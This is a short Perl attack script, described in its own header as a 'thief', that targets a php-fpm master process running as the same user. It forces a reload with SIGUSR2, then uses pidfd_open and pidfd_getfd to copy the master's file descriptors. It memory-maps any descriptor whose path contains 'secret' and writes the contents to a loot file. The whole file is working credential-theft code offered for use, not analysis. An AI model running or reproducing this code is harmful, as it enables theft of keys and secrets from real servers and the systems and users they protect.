# A thief of the same user as a php-fpm master: has it reload, and looks for the passed-on key between its execve and its MINIT. x86_64.
# Arguments: the master, the file for the loot.
use strict;
use POSIX ();

my ($master, $loot) = @ARGV;
# A session of its own: the reload ends the worker that started it.
exit if fork;
POSIX::setsid();
exit if fork;
my $pidfd = syscall(434, $master + 0, 0);    # pidfd_open(2)
$pidfd >= 0 or die "pidfd_open: $!";
open my $log, '>', "$loot.part" or die "$loot: $!";
kill 'USR2', $master + 0;
my $until = time + 6;
my $opened = 0;
while (time < $until && !$opened) {
    for my $number (3 .. 24) {
        my $fd = syscall(438, $pidfd, $number, 0);    # pidfd_getfd(2)
        if ($fd < 0) {
            last if $!{EPERM};
            next;
        }
        if (readlink("/proc/self/fd/$fd") =~ /secret/) {
            my $address = syscall(9, 0, 4096, 1, 1, $fd, 0);    # mmap(2), to read, shared
            print $log unpack('P4096', pack('q', $address)) =~ s/[^ -~]+/ /gr;
            $opened = 1;
        }
        POSIX::close($fd);
    }
}
print $log $opened ? " taken" : "nothing taken";
close $log;

rename "$loot.part", $loot;
